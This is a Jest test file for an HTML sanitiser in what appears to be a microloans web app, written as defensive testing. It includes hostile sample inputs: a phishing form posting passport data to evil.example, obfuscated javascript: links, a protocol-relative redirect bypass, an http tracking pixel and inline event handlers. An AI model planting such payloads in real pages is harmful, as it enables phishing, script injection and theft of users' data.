import { afterPayloadMarker, benignHtml, hostileDocument, hostileHtml } from '@microloans/shared-contracts/testing';
import { sanitizeHtml } from './sanitize-html';

/** What may stand in sanitised content, and nothing else. */
const allowedTags = new Set(
  'A ABBR B BLOCKQUOTE BR CAPTION CODE COL COLGROUP DD DEL DIV DL DT EM FIGCAPTION FIGURE H1 H2 H3 H4 H5 H6 HR I IMG INS KBD LI MARK OL P PRE Q S SMALL SPAN STRONG SUB SUP TABLE TBODY TD TFOOT TH THEAD TIME TR U UL'.split(' '),
);
const allowedAttributes = new Set(['href', 'src', 'alt', 'title', 'colspan', 'rowspan', 'scope', 'datetime', 'start', 'reversed', 'target', 'rel', 'loading', 'decoding']);
const origin = window.location.origin;

/** Parses sanitised output the way the page will and lists everything that could act. */
function whatActs(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const problems: string[] = [];
  for (const element of template.content.querySelectorAll('*')) {
    if (!allowedTags.has(element.tagName)) problems.push(`tag ${element.tagName}`);
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`namespace ${element.namespaceURI}`);
    for (const { name, value } of element.attributes) {
      if (!allowedAttributes.has(name)) problems.push(`attribute ${name}="${value}"`);
    }
    const href = element.getAttribute('href');
    if (href !== null) {
      const url = new URL(href, origin);
      const inside = url.origin === origin && href.startsWith('/') && !/^[/\\]{2}/.test(href);
      const outside = /^https?:$/.test(url.protocol) && url.origin !== origin && href === url.href;
      const contact = /^(mailto|tel):/.test(href);
      if (!inside && !outside && !contact) problems.push(`href ${href}`);
      if (outside && (element.getAttribute('target') !== '_blank' || element.getAttribute('rel') !== 'noopener noreferrer')) {
        problems.push(`off-site link without a new tab: ${element.outerHTML}`);
      }
      if (!outside && element.hasAttribute('target')) problems.push(`target on ${href}`);
    }
    const src = element.getAttribute('src');
    if (src !== null && !(src.startsWith('https://') || (src.startsWith('/') && !/^[/\\]{2}/.test(src)))) problems.push(`src ${src}`);
  }
  return problems;
}

test('the corpus is big enough to mean something', () => {
  expect(hostileHtml.length).toBeGreaterThanOrEqual(60);
});

test.each(hostileHtml.map((payload) => [payload]))('%s: nothing that acts survives', (payload) => {
  const clean = sanitizeHtml(payload);
  expect(whatActs(clean)).toEqual([]);
  // Whatever is left of the payload's markup is text: no tag of these names is there to parse.
  expect(clean).not.toMatch(/<(script|style|form|input|button|select|textarea|iframe|object|embed|base|meta|link|svg|math|frame|portal|isindex|keygen)\b/i);
});

test('all payloads in one document sanitise to something that does not act, and each was parsed on its own', () => {
  const clean = sanitizeHtml(hostileDocument());
  expect(whatActs(clean)).toEqual([]);
  const text = document.createElement('template');
  text.innerHTML = clean;
  const shown = text.content.textContent ?? '';
  expect(hostileHtml.filter((_, index) => !shown.includes(afterPayloadMarker(index)))).toEqual([]);
});

test('the markup of a document stays as it is', () => {
  const clean = sanitizeHtml(benignHtml);
  expect(whatActs(clean)).toEqual([]);
  expect(clean).toContain('<h2>Цели обработки</h2>');
  expect(clean).toContain('<p>Текст <strong>важный</strong>, <em>курсив</em>, <code>код</code>.</p>');
  expect(clean).toContain('<ol start="3"><li>три</li></ol>');
  expect(clean).toContain('<th scope="col">Срок</th>');
  expect(clean).toContain('<td colspan="2">7 дней</td>');
  expect(clean).toContain('<a href="/docs/mailing-agreement">Согласие на рассылку</a>');
  expect(clean).toContain('<a href="https://example.org/partner" target="_blank" rel="noopener noreferrer">Партнёр</a>');
  expect(clean).toContain('<a href="mailto:help@example.ru">Написать</a>');
  expect(clean).toContain('<a href="tel:+78001234567">Позвонить</a>');
  expect(clean).toContain('<img src="https://example.org/scheme.png" alt="Схема" loading="lazy" decoding="async">');
  expect(clean).toContain('<img src="/images/scheme.png" alt="Схема" loading="lazy" decoding="async">');
});

test('a phishing form keeps its words and loses everything that acts', () => {
  const clean = sanitizeHtml(
    '<form action="https://evil.example/steal"><p>Подтвердите паспорт</p><input name="passport"><button>Отправить</button></form>',
  );
  expect(clean).toBe('<p>Подтвердите паспорт</p>Отправить');
});

test('links: hostile targets become text, in-site ones their resolved path, off-site ones a new tab', () => {
  expect(sanitizeHtml('<a href="/.//evil.example">x</a>')).toBe('<a>x</a>');
  expect(sanitizeHtml('<a href="java&#x09;script:alert(1)">x</a>')).toBe('<a>x</a>');
  expect(sanitizeHtml('<a href="/docs/../docs/privacy-agreement" target="_top">x</a>')).toBe('<a href="/docs/privacy-agreement">x</a>');
  expect(sanitizeHtml('<a href="https://example.org" target="_self" rel="opener">x</a>')).toBe(
    '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>',
  );
});

test('images over plain http, data: or script URLs are removed; width and height are stripped', () => {
  expect(sanitizeHtml('<p>a<img src="http://evil.example/t.gif">b</p>')).toBe('<p>ab</p>');
  expect(sanitizeHtml('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="x">')).toBe('');
  expect(sanitizeHtml('<img src="/x.png" width="640" height="360" alt="схема">')).toBe('<img src="/x.png" alt="схема" loading="lazy" decoding="async">');
});

test('pictures load lazily and decode off the main thread, whatever the content asked', () => {
  expect(sanitizeHtml('<img src="https://example.org/a.png" alt="a" loading="eager" decoding="sync">')).toBe(
    '<img src="https://example.org/a.png" alt="a" loading="lazy" decoding="async">',
  );
});

test('a leading h1 is dropped when asked (the page shows the title), and only then', () => {
  const html = '<h1>Согласие</h1><p onclick="x()">Текст</p><h2>Цели</h2>';
  expect(sanitizeHtml(html, { dropLeadingHeading: true })).toBe('<p>Текст</p><h2>Цели</h2>');
  expect(sanitizeHtml(html)).toBe('<h1>Согласие</h1><p>Текст</p><h2>Цели</h2>');
  expect(sanitizeHtml('<p>Вступление</p><h1>Раздел</h1>', { dropLeadingHeading: true })).toBe('<p>Вступление</p><h1>Раздел</h1>');
});

test('the same content is sanitised once and answered the same; another option or another text is sanitised anew; the oldest goes past the bound', () => {
  const sanitisings = jest.spyOn(document, 'createElement');
  const sanitisedSince = () => sanitisings.mock.calls.filter(([tag]) => tag === 'template').length;
  const html = '<h1>Пост</h1><p onclick="x()">Текст <a href="javascript:alert(1)">ссылка</a></p>';
  const first = sanitizeHtml(html, { dropLeadingHeading: true });
  expect(first).toBe('<p>Текст <a>ссылка</a></p>');
  expect(sanitizeHtml(html, { dropLeadingHeading: true })).toBe(first);
  expect(sanitisedSince()).toBe(1);
  expect(sanitizeHtml(html)).toBe('<h1>Пост</h1><p>Текст <a>ссылка</a></p>');
  expect(sanitizeHtml(`${html} `)).toBe('<h1>Пост</h1><p>Текст <a>ссылка</a></p> ');
  expect(sanitisedSince()).toBe(3);
  // Four long texts of a million characters each: the first content is no longer held.
  for (const letter of 'абвг') expect(sanitizeHtml(`<p>${letter.repeat(1_000_000)}</p>`)).toHaveLength(1_000_007);
  expect(sanitisedSince()).toBe(7);
  expect(sanitizeHtml(html, { dropLeadingHeading: true })).toBe(first);
  expect(sanitisedSince()).toBe(8);
  sanitisings.mockRestore();
});
